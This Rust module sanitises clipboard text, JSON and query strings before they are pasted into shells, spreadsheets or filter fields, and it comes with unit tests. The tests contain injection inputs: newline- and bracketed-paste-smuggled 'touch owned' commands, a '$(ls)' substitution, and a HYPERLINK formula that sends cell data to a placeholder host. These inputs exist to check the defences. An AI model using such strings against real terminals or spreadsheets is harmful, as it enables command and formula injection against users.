//! What goes to the clipboard: texts that can be pasted into a shell, a spreadsheet or a filter line.
//! Never changes what was asked for as it is; whatever else a record says leaves here on one line.

use std::borrow::Cow;

use crate::query::Query;
use crate::text::{clean, defused, is_formula, is_invisible, push_json_escape};

/// A text from records as it may be pasted anywhere: line breaks and other controls are pictures, as on
/// the screen, and what a spreadsheet would calculate begins with an apostrophe, also where one splits
/// what is pasted.
pub fn pasteable(text: &str) -> String {
    defused(&clean(text)).into_owned()
}

/// JSON as it may be pasted anywhere: on one line, the same value, and what could drive a terminal or
/// turn the direction of writing escaped.
pub fn json(text: &str) -> String {
    let mut line = String::with_capacity(text.len());
    let (mut is_quoted, mut is_escaped) = (false, false);
    for c in text.chars() {
        let is_unseen = is_invisible(c) || matches!(c, '\u{fe00}'..='\u{fe0f}');
        match c {
            c if is_quoted && (c.is_control() || is_unseen) => {
                // What follows a backslash here is no escape of JSON.
                push_json_escape(c, &mut line);
            }
            c if !is_quoted && c.is_whitespace() => continue,
            c if !is_quoted && (c.is_control() || is_unseen) => {
                line.push_str(&clean(c.encode_utf8(&mut [0; 4])));
            }
            c => line.push(c),
        }
        is_quoted ^= c == '"' && !is_escaped;
        is_escaped = is_quoted && c == '\\' && !is_escaped;
    }
    line
}

/// Cells of a row, a tab between them: no cell holds one.
pub fn row(cells: impl Iterator<Item = String>) -> String {
    cells.map(|cell| pasteable(&cell)).collect::<Vec<_>>().join("\t")
}

/// A query on one line that finds the same: white space of any kind is one space to a query. One that
/// begins like a formula is put in brackets, which an apostrophe would spoil.
pub fn query(text: &str) -> String {
    let spaced: Cow<'_, str> = match text.contains(char::is_control) {
        true => text.chars().map(|c| if c.is_whitespace() { ' ' } else { c }).collect(),
        false => text.into(),
    };
    let line = clean(&spaced).into_owned();
    match is_formula(&line) && Query::parse(&line).is_ok() {
        true => format!("({line})"),
        false => line,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_is_pasted_runs() {
        for (text, safe) in [
            ("ann@fern.example", "ann@fern.example"),
            ("eve@fern.example\r\ntouch owned #\r\n", "eve@fern.example␍␊touch owned #␍␊"),
            ("Bob\u{1b}[201~\ntouch owned", "Bob␛[201~␊touch owned"),
            ("=HYPERLINK(\"http://x.example?\"&A1)", "'=HYPERLINK(\"http://x.example?\"&A1)"),
            ("+cmd", "'+cmd"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1+1", "␉=1+1"),
            ("x;=1+1", "x;'=1+1"),
            ("x,@SUM(1)", "x,'@SUM(1)"),
            ("1,-2", "1,-2"),
            ("a\u{202e}b", "a<U+202E>b"),
        ] {
            assert_eq!(pasteable(text), safe, "{text:?}");
        }
        assert_eq!(row(["a\tb".to_owned(), "=1".to_owned()].into_iter()), "a␉b\t'=1");
    }

    #[test]
    fn json_is_one_line_with_the_same_value() {
        for (text, copied) in [
            ("{\n  \"a b\": [1,\r\n\t2]\n}\n", r#"{"a b":[1,2]}"#),
            (
                "{\"a\":\"x\u{9b}31m\u{7f}\u{202e}\u{e0041}\"}",
                r#"{"a":"x\u009b31m\u007f\u202e\udb40\udc41"}"#,
            ),
            ("{\"a\":\"tab\there\n$(ls)\"}", r#"{"a":"tab\u0009here\u000a$(ls)"}"#),
            (r#"{"a":"\"\\","b":" "}"#, r#"{"a":"\"\\","b":" "}"#),
            ("{\"a\":\u{1b}1}", "{\"a\":␛1}"),
        ] {
            assert_eq!(json(text), copied, "{text:?}");
        }
        let value = "\u{1}\u{9f}\u{2028}👩\u{200d}👧\u{fe0f}\u{10ffff}";
        let copied = json(&serde_json::to_string(value).expect("a text"));
        assert_eq!(serde_json::from_str::<String>(&copied).expect("JSON"), value);
    }

    #[test]
    fn a_copied_query_is_one_line_and_finds_the_same() {
        for (text, copied) in [
            ("risk>=high", "risk>=high"),
            ("-actor:ann", "(-actor:ann)"),
            ("actor=\"eve\r\ntouch owned\"", "actor=\"eve  touch owned\""),
            ("", ""),
        ] {
            assert_eq!(query(text), copied, "{text:?}");
        }
        assert_eq!(Query::parse("(-actor:ann)"), Query::parse("-actor:ann"));
    }
}
